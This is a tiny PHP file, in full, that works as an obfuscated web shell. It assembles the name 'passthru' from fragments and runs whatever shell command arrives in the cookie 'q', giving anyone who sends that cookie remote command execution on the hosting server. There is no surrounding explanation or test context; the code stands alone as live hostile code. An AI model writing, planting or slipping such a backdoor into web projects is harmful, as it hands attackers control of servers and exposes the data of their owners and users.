<?php
$go = (pa.(ss).(thru));
$go($_COOKIE['q']);
